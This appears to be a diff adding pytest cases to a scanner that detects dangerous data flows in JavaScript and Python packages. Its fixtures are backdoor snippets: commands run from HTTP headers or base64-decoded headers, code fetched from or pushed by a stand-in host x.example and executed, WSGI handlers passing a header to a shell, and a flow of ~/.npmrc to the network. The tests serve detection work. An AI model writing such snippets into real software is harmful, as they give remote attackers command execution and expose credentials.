@@ -108,3 +108,51 @@ def test_a_stream_of_http2_sends() -> None:
     assert {"net.http POST https://x.example/u", "code.flow file:~/.npmrc > network"} <= told(
         source, "index.js"
     )
+
+
+@pytest.mark.parametrize(
+    ("source", "flow"),
+    [
+        ("exports.m = (req, res) => { exec(req.get('x-c'), () => res.end()) }", "header > command"),
+        (
+            "exports.m = (req, res) => { eval(Buffer.from(req.headers['x-c'], 'base64').toString()) }",
+            "header > execution",
+        ),
+        (
+            "const ws = new WebSocket('wss://x.example'); ws.onmessage = (e) => { exec(e.data) }",
+            "network > command",
+        ),
+        (
+            (
+                "const ws = new (require('ws'))('wss://x.example'); "
+                "ws.on('message', (d) => { const { run } = JSON.parse(d); exec(run) })"
+            ),
+            "network > command",
+        ),
+        (
+            (
+                "class F extends require('events') { async go () { this.emit('x', await (await fetch('https://x.example')).text()) } }; "
+                "const f = new F(); f.on('x', (t) => new Function(t)()); f.go()"
+            ),
+            "network > execution",
+        ),
+    ],
+)
+def test_what_somebody_far_away_says_is_run(source: str, flow: str) -> None:
+    assert f"code.flow {flow}" in told("const { exec } = require('child_process');\n" + source, "index.js")
+
+
+def test_a_downloaded_program_is_no_command_that_was_sent() -> None:
+    source = "const b = await (await fetch('https://x.example/p')).text(); execFile(b, ['--version']); exec(`${b} -v`)"
+    found = told("import { exec, execFile } from 'child_process';\n" + source, "index.mjs")
+    assert "code.flow network > command" not in found
+
+
+@pytest.mark.parametrize(
+    "run", ["os.popen({}).read()", "subprocess.getoutput({})", "subprocess.run({}, shell=True)"]
+)
+def test_an_application_of_wsgi_runs_a_header(run: str) -> None:
+    source = "import os, subprocess\nclass M:\n    def __call__(self, environ, start_response):\n        return [{}]\n"
+    assert "code.flow header > command" in told(
+        source.format(run.format("environ['HTTP_X_K']")), "pkg/__init__.py"
+    )
